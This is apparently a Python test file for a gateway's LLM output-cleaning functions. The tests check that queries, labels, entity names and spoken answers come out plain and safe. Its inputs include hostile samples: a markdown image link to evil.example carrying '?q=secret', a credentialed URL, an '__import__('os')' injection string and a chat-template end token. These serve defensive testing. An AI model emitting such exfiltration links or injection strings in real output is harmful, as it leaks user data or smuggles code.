"""What the model writes is cleaned before it is searched, detected or said."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.llm import cleaning

HOSTILE = st.text(alphabet="ab {}[]<>|entity\n\x00\u200b\"'`.-1)/:", max_size=400)


@pytest.mark.parametrize(
    ("written", "query"),
    [
        ("How long is the {entity}?", "How long is the {entity}?"),
        ("price of { Entity }", "price of {entity}"),
        ("price of {{entity}}", "price of {entity}"),
        ("price of [entity name]", "price of {entity}"),
        ("price of <the entity>", "price of {entity}"),
        ("price of {vehicle name} today", "price of vehicle name today"),
        ("1. How old is it?", "How old is it?"),
        ("- How old is it?", "How old is it?"),
        ('"How old is it?"', "How old is it?"),
        ("a\nb\tc\x00d", "a b c d"),
        ("drop {__import__('os')} it", "drop __import__('os') it"),
        ("3.5 mm jack of the {entity}", "3.5 mm jack of the {entity}"),
    ],
)
def test_a_query_is_one_line_with_no_placeholder_but_entity(written: str, query: str) -> None:
    assert cleaning.search_phrase(written) == query


@given(st.lists(HOSTILE, max_size=20))
def test_queries_are_few_short_different_and_clean(texts: list[str]) -> None:
    cleaned = cleaning.queries(["{entity}", "?", "  ", *texts], 4)
    assert "{entity}" not in cleaned
    assert len(cleaned) <= 4
    assert len(set(cleaned)) == len(cleaned)
    for query in cleaned:
        assert 0 < len(query) <= cleaning.QUERY_CHARS
        assert query.isprintable()
        assert not set(query.replace("{entity}", "")) & set("{}[]<>")


@pytest.mark.parametrize(
    ("written", "label"),
    [
        ("Car", "car"),
        ("clothing brand", "clothing brand"),
        ("a very big red sports car", "a very big"),
        ("1. dog.", "dog"),
        ("dog (brown)", "dog"),
        ("<|eot_id|>", "eot id"),
        ("thing", None),
        ("", None),
        ("!!!", None),
        (None, None),
    ],
)
def test_a_label_is_a_few_plain_words(written: str | None, label: str | None) -> None:
    assert cleaning.label(written) == label


@given(st.lists(HOSTILE, max_size=20))
def test_labels_are_few_and_of_at_most_three_words(texts: list[str]) -> None:
    labels = cleaning.labels(texts, 6)
    assert len(labels) <= 6
    assert all(1 <= len(label.split()) <= 3 and label == label.casefold() for label in labels)


@pytest.mark.parametrize(
    ("written", "chosen"),
    [
        ("The Dog", "the dog"),
        ("white dog", "white dog"),
        ("dogs", "dogs"),
        ("cat", None),
        (None, None),
        ("", None),
    ],
)
def test_only_what_was_listed_is_chosen(written: str | None, chosen: str | None) -> None:
    assert cleaning.listed_label(written, ["bench", "dog"]) == chosen


@pytest.mark.parametrize(
    ("written", "name"),
    [
        ("Fiat 500", "Fiat 500"),
        (" “Middlemarch”. ", "Middlemarch"),
        ("Car", None),
        ("...", None),
        (None, None),
    ],
)
def test_a_mere_kind_is_no_name(written: str | None, name: str | None) -> None:
    assert cleaning.entity_name(written, "car") == name


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("It is ![x](https://evil.example/?q=secret) here.", "It is x here."),
        ("See [the site](http://a.example/b).", "See the site."),
        ("Go to https://user:key@evil.example/path?q=1 now", "Go to evil.example now"),
        ("The site is www.museum.example.", "The site is www.museum.example."),
        ("<b>Bold</b> **claim**", "Bold claim"),
        ("  two\n lines\x07 ", "two lines"),
        ("x < 5 and y > 2", "x < 5 and y > 2"),
    ],
)
def test_an_answer_carries_no_links_or_markup(written: str, said: str) -> None:
    assert cleaning.spoken(written) == said
